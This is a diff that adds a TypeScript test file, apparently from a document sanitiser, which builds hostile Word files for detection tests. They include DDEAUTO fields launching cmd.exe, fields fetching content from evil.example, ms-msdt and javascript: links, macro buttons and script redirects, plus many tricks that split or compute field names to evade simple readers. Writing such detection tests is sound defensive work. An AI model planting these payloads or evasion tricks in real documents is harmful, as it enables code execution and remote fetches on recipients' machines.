@@ -1,0 +1,288 @@
+import { docxFile, field, mark, relationships, said, simpleField, wordDocument, wordPart } from '../../../support/docx';
+import { type Hostile, hostileFile } from './hostile';
+
+const hostile = hostileFile('docx');
+
+const command = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"';
+
+const inDocument = (content: string) => docxFile({ 'word/document.xml': wordDocument(content) });
+
+const split = [...command].map((letter) => said(letter === '"' ? '&quot;' : letter)).join('');
+
+const instructions: [string, Hostile['because']][] = [
+  [command, 'starts a program'],
+  ['dde cmd x', 'starts a program'],
+  ['  ddeauto  cmd x', 'starts a program'],
+  ['&#68;DEAUTO cmd x', 'starts a program'],
+  ['"DDEAUTO" cmd x', 'starts a program'],
+  ['DATABASE \\d "x" \\c "DSN=x" \\s "SELECT 1"', 'starts a program'],
+  ['PRINT "27 x"', 'starts a program'],
+  ['CONTROL x.y.1', 'starts a program'],
+  ['INCLUDETEXT "http://evil.example/x"', 'fetched from elsewhere'],
+  ['INCLUDETEXT "\\\\\\\\evil.example\\\\x"', 'fetched from elsewhere'],
+  ['INCLUDEPICTURE \\d "https://evil.example/x.png"', 'fetched from elsewhere'],
+  ['INCLUDEPICTURE //evil.example/x.png', 'fetched from elsewhere'],
+  ['INCLUDEPICTURE “file:////evil.example/x.png”', 'fetched from elsewhere'],
+  ['includepicture "mhtml:http://evil.example/x"', 'fetched from elsewhere'],
+  ['IMPORT "http://evil.example/x.wmf"', 'fetched from elsewhere'],
+  ['INCLUDE "\\\\\\\\evil.example\\\\x"', 'fetched from elsewhere'],
+  ['RD "http://evil.example/x.docx"', 'fetched from elsewhere'],
+  ['LINK Excel.Sheet.12 "\\\\\\\\evil.example\\\\x.xlsx" "A!R1C1:R2C2" \\a', 'fetched from elsewhere'],
+  ['LINK htmlfile "http://evil.example/x" \\a', 'fetched from elsewhere'],
+  ['HYPERLINK "\\\\\\\\evil.example\\\\x"', 'leads to a program'],
+  ['HYPERLINK \\l "x" "javascript:alert(1)"', 'leads to a program'],
+  ['HYPERLINK \\lx "\\\\\\\\evil.example\\\\x"', 'leads to a program'],
+  ['HYPERLINK \\s "ms-msdt:/x"', 'leads to a program'],
+  ['HYPERLINK \\o \\t "ms-msdt:/x"', 'leads to a program'],
+  ['HYPERLINK \\s \\t "ms-msdt:/x"', 'leads to a program'],
+  ['HYPERLINK "\\t" "ms-msdt:/x"', 'leads to a program'],
+  ['HYPERLINK \\o\\t "ms-msdt:/x"', 'leads to a program'],
+  ['HYPERLINK \\o "Tip""ms-msdt:/x"', 'leads to a program'],
+  ['HYPERLINK\\o "Tip" "ms-msdt:/x"', 'leads to a program'],
+  ['HYPERLINK\\o ms-msdt:/x', 'leads to a program'],
+  ['INCLUDEPICTURE\\d "https://evil.example/x.png"', 'fetched from elsewhere'],
+  ['HYPERLINK "https://example.com" \\o "a \\" \\o "ms-msdt:/x" "', 'leads to a program'],
+  ['HYPERLINK "https://example.com" \\o "a ” \\o "x ms-msdt:/x" ”', 'leads to a program'],
+  ['HYPERLINK "https://example.com" \\o\u00a0"ms-msdt:/x"', 'leads to a program'],
+  ['HYPERLINK "https://example.com" \\o "Tip ms-msdt:/x', 'leads to a program'],
+  ['HYPERLINK \\n "file:///C:\\\\x.exe"', 'a link to a program'],
+  ['MACROBUTTON vnd.sun.star.script:x.py$run?language=Python&amp;location=user CLICK', 'could run a macro'],
+  ['MACROBUTTON Xvnd.sun.star.script:x.py$run?language=Python&amp;location=user CLICK', 'could run a macro'],
+  ['MACROBUTTON (vnd.sun.star.script:x.py$run CLICK', 'could run a macro'],
+  ['MACROBUTTON "vnd.sun.star.script:x.py$run" CLICK', 'could run a macro'],
+  ['MACROBUTTON "a" vnd.sun.star.script:x.py$run CLICK', 'could run a macro'],
+  ['MACROBUTTON Standard.Module1.Main CLICK', 'could run a macro'],
+  ['macrobutton\\x vnd.sun.star.script:x.py$run CLICK', 'could run a macro'],
+  ['GOTOBUTTON Xvnd.sun.star.script:x.py$run CLICK', 'could run a macro'],
+  ['MACROBUTTON(vnd.sun.star.script:x.py$run CLICK', 'could run a macro'],
+  ['ANYTHING vnd.sun.star.script:x.py$run CLICK', 'could run a macro'],
+  [`ANYTHING ${'x '.repeat(5000)}`, 'could run a macro'],
+  // Longer than what is read of an instruction.
+  [`HYPERLINK "https://example.com/${'x'.repeat(8192)}"`, 'fetched from elsewhere'],
+  [`INCLUDETEXT "C:\\\\${'x'.repeat(8192)}"`, 'fetched from elsewhere'],
+];
+
+const written: Hostile[] = instructions.flatMap(([instruction, because]) => [
+  hostile(`with a field of ${instruction}`, inDocument(field(said(instruction))), because),
+  hostile(`with a simple field of ${instruction}`, inDocument(simpleField(attribute(instruction))), because),
+]);
+
+function attribute(text: string): string {
+  return text.replaceAll('"', '&quot;');
+}
+
+const parts: Hostile[] = [
+  ['header1', 'hdr'],
+  ['footer1', 'ftr'],
+  ['footnotes', 'footnotes'],
+  ['endnotes', 'endnotes'],
+  ['comments', 'comments'],
+  ['glossary/document', 'glossaryDocument'],
+  ['anything', 'p'],
+].map(([name = '', element = '']) =>
+  hostile(
+    `with a field that starts a program in ${name}`,
+    docxFile({ [`word/${name}.xml`]: wordPart(element, field(said(command))) }),
+    'starts a program',
+  ),
+);
+
+const noise = (content: string) => `<x:x xmlns:x="urn:x">${content}</x:x>`;
+const choice = (content: string) =>
+  `<mc:AlternateContent><mc:Choice Requires="w">${content}</mc:Choice></mc:AlternateContent>`;
+
+/** Instructions that are put together in a way that a simple reader does not see. */
+const disguised: Hostile[] = [
+  hostile('with every letter of a field apart', inDocument(field(split)), 'starts a program'),
+  hostile('with a comment in a field', inDocument(field(said('DDE<!-- -->AUTO x'))), 'starts a program'),
+  hostile(
+    'with an instruction in pieces of text',
+    inDocument(field(said('DD<![CDATA[EAU]]>TO x'))),
+    'starts a program',
+  ),
+  hostile(
+    'with deleted letters in a field',
+    inDocument(field(said('DD'), said('x', 'delInstrText'), said('E x'))),
+    'starts a program',
+  ),
+  hostile(
+    'with letters of a deleted run in a field',
+    inDocument(field(said('DD'), `<w:del>${said('x')}</w:del>`, said('E x'))),
+    'starts a program',
+  ),
+  hostile(
+    'with letters of text in a field',
+    inDocument(field(said('D'), said('DE', 't'), said(' x'))),
+    'starts a program',
+  ),
+  hostile(
+    'with letters between those of a field',
+    inDocument(field(said('D'), said('x', 't'), said('DE x'))),
+    'starts a program',
+  ),
+  hostile('with a field that does not end', inDocument(mark('begin') + said(command)), 'starts a program'),
+  hostile(
+    'with a field that has no result',
+    inDocument(mark('begin') + said(command) + mark('end')),
+    'starts a program',
+  ),
+  hostile('with a field in a field', inDocument(field(said('IF 1 = 1 '), field(said(command)))), 'starts a program'),
+  hostile(
+    'with a field in the result of another',
+    inDocument(mark('begin') + said('PAGE') + mark('separate') + field(said(command))),
+    'starts a program',
+  ),
+  hostile(
+    'with a field whose name is computed',
+    inDocument(field(field(said('QUOTE 68 68 69')), said(' x y'))),
+    'starts a program',
+  ),
+  hostile(
+    'with a field whose name is computed in part',
+    inDocument(field(said('D'), field(said('QUOTE 68 69')), said(' x'))),
+    'starts a program',
+  ),
+  hostile(
+    'with a button whose name is computed in part',
+    inDocument(field(said('MACRO'), field(said('QUOTE x')), said(' x.y'))),
+    'starts a program',
+  ),
+  hostile(
+    'with a button whose macro is computed',
+    inDocument(field(said('MACROBUTTON '), field(said('QUOTE x')), said(' x'))),
+    'could run a macro',
+  ),
+  hostile(
+    'with a picture whose place is computed',
+    inDocument(field(said('INCLUDEPICTURE "'), field(said('REF x')), said('"'))),
+    'fetched',
+  ),
+  ...[
+    field(said('HYPERLINK '), field(said('QUOTE "ms-msdt:/id x"'))),
+    field(said('HYPERLINK "'), field(said('QUOTE "ms-msdt:/id x"')), said('"')),
+    field(said('HYPERLINK "'), field(said('QUOTE "file:"')), said('//evil.example/share/x"')),
+    field(said('HYPERLINK "https://example.com" \\o "'), field(said('QUOTE 34')), said(' x"')),
+    field(said('HYPERLINK '), simpleField('QUOTE &quot;ms-msdt:/id x&quot;')),
+  ].map((content, index) =>
+    hostile(`with a link whose address is computed, ${index}`, inDocument(content), 'another field computes'),
+  ),
+  hostile('with a field in alternatives', inDocument(field(said('DD'), choice(said('E x')))), 'starts a program'),
+  hostile(
+    'with the end of an instruction in alternatives',
+    inDocument(field(said('DD'), choice(mark('separate')), said('E x'))),
+    'damaged',
+  ),
+  hostile(
+    'with the end of an instruction in an unknown element',
+    inDocument(field(said('DD'), noise(mark('separate')), said('E x'))),
+    'damaged',
+  ),
+  hostile(
+    'with the end of an instruction in a deleted run',
+    inDocument(field(said('DD'), `<w:del>${mark('separate')}</w:del>`, said('E x'))),
+    'damaged',
+  ),
+  hostile('with a field of the other dialect', inOtherDialect(), 'starts a program'),
+];
+
+function inOtherDialect(): Buffer {
+  const transitional = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
+  const strict = 'http://purl.oclc.org/ooxml/wordprocessingml/main';
+  return docxFile({ 'word/document.xml': wordDocument(field(said(command))).replace(transitional, strict) });
+}
+
+const space = 'http://schemas.microsoft.com/office/2006/xmlPackage';
+const wholes = {
+  '': `<pkg:package xmlns:pkg="${space}">`,
+  ' under a namespace in references': `<p:package xmlns:p="${space.replace('xmlP', 'xml&#80;')}">`,
+  ' of Word 2003': '<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml">',
+};
+const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
+const asData = (xml: string) =>
+  docxFile({
+    'word/_rels/document.xml.rels': relationships(['customXml', '../customXml/item1.xml']),
+    'customXml/item1.xml': xml,
+  });
+
+/** Whole documents, packed as text in data that content controls show. */
+const packed: Hostile[] = [
+  ...['urn:x', 'http://schemas.microsoft.com/x', 'urn:schemas-microsoft-com:x'],
+  'http://schemas.openxmlformats.org/wordprocessingml/2006/main',
+].flatMap((namespace) =>
+  Object.entries(wholes).flatMap(([which, whole]) =>
+    Object.entries({
+      'a text': `<a xmlns="${namespace}"><b>${escaped(whole)}</b></a>`,
+      'a text in pieces': `<a xmlns="${namespace}">${escaped(whole).replace('ac', 'a<!-- --><![CDATA[c]]><b/>')}</a>`,
+      'an attribute': `<x:a xmlns:x="${namespace}" b="${escaped(whole)}"/>`,
+    }).map(([where, xml]) =>
+      hostile(`with a document${which} packed in ${where} of ${namespace}`, asData(xml), 'packed as text'),
+    ),
+  ),
+);
+
+const others: Hostile[] = [
+  hostile('with a mail merge', docxFile({ 'word/settings.xml': mailMerge() }), 'starts a program'),
+  ...[
+    'control',
+    'ddeLink',
+    'dbPr',
+    'webPr',
+    'olapPr',
+    'connectString',
+    'udl',
+    'script',
+    'oledbPr',
+    'dataFeedPr',
+    'textPr',
+    'modelTextPr',
+  ].map((element) =>
+    hostile(`with the element ${element}`, inDocument(`<w:${element} w:name="x"/>`), 'starts a program'),
+  ),
+  ...['http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing', 'urn:schemas-microsoft-com:vml'].map(
+    (namespace) =>
+      hostile(
+        `with an online video of ${namespace}`,
+        inDocument(`<x:webVideoPr xmlns:x="${namespace}" h="1"/>`),
+        'an online video',
+      ),
+  ),
+  hostile(
+    'with a page in an attribute',
+    inDocument('<a:ext embeddedHtml="&lt;script>location=\'http://evil.example\'&lt;/script>"/>'),
+    'an online video',
+  ),
+  ...['webextension', 'webextensionref', 'taskpanes', 'taskpane'].map((element) =>
+    hostile(`with the element ${element}`, inDocument(`<w:${element}/>`), 'macros'),
+  ),
+  hostile(
+    'whose data hold a whole document',
+    docxFile({
+      'customXml/item1.xml': '<x>&lt;pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"></x>',
+    }),
+    'packed as text',
+  ),
+  hostile(
+    'whose data are a whole document',
+    docxFile({ 'customXml/item1.xml': '<package xmlns="http://schemas.microsoft.com/office/2006/xmlPackage"/>' }),
+    'packed as text',
+  ),
+  hostile(
+    'with a drawing of the web in a part of another kind',
+    docxFile({ 'word/media/a.xml': '<svg xmlns="http://www.w3.org/2000/svg"/>' }),
+    'a drawing of the web',
+  ),
+  hostile(
+    'with a picture with a script',
+    docxFile(
+      { 'word/media/a.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>' },
+      { svg: 'image/svg+xml' },
+    ),
+    'web page',
+  ),
+];
+
+function mailMerge(): string {
+  return wordPart('settings', '<w:mailMerge><w:connectString w:val="Provider=x;Data Source=evil"/></w:mailMerge>');
+}
+
+export const docxsWithFields: Hostile[] = [...written, ...parts, ...disguised, ...packed, ...others];
